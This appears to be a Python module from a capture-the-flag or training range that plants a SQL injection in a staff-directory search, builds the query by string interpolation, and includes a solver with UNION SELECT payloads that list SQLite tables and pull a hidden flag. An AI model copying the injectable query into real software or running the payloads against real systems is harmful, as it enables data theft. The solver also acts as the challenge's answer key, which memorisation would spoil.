"""A search that concatenates its SQL statement."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from openrange.packs.webapp.client import sign_in
from openrange.packs.webapp.places import Places
from openrange.packs.webapp.world import World
from openrange.worlds.flag import find_flag
from openrange.worlds.visitor import Visitor, WorldReply

if TYPE_CHECKING:
    from openrange.packs.webapp.database import Database, Row

NAME = "sql_injection"
SUMMARY = "the staff directory's search pastes what is typed into its SQL statement"


def hide(flag: str) -> Places:
    """Put the flag into the table that no page shows."""
    return Places(vault=flag)


def search(database: Database, term: str) -> list[Row]:
    """People whose name or job title contains a term, which can end the statement's string.

    Args:
        database: The portal's database, which lets nobody do more than read.
        term: What to look for, or SQL.

    Returns:
        Whatever the statement selects.

    Raises:
        QueryError: The statement is wrong, forbidden or too slow.
    """
    # The planted weakness. One line, so that a comment can swallow the rest of the statement.
    return database.rows(
        f"SELECT name, title, login FROM accounts "  # noqa: S608
        f"WHERE name LIKE '%{term}%' OR title LIKE '%{term}%' ORDER BY name"
    )


def solve(visitor: Visitor, world: World) -> str | None:
    """Read the names of the tables, then the table that no page shows."""
    sign_in(visitor, world)
    tables = _search(visitor, world, "' UNION SELECT name, type, '' FROM sqlite_master --")
    vault = world["vault"]
    if f">{vault['table']}<" not in tables.body:
        return None
    union = f"' UNION SELECT {vault['column']}, '', '' FROM {vault['table']} --"  # noqa: S608
    return find_flag(_search(visitor, world, union).body)


def visit(visitor: Visitor, world: World) -> None:
    """List everybody, then look for a word of the own job title."""
    sign_in(visitor, world)
    visitor.get(f"/{world['doors']['directory']}")
    word = re.search("[A-Za-z]+", world["accounts"][0]["title"])
    _search(visitor, world, word.group() if word else "a")


def _search(visitor: Visitor, world: World, term: str) -> WorldReply:
    doors = world["doors"]
    return visitor.get(f"/{doors['directory']}", {doors["parameter"]: term})
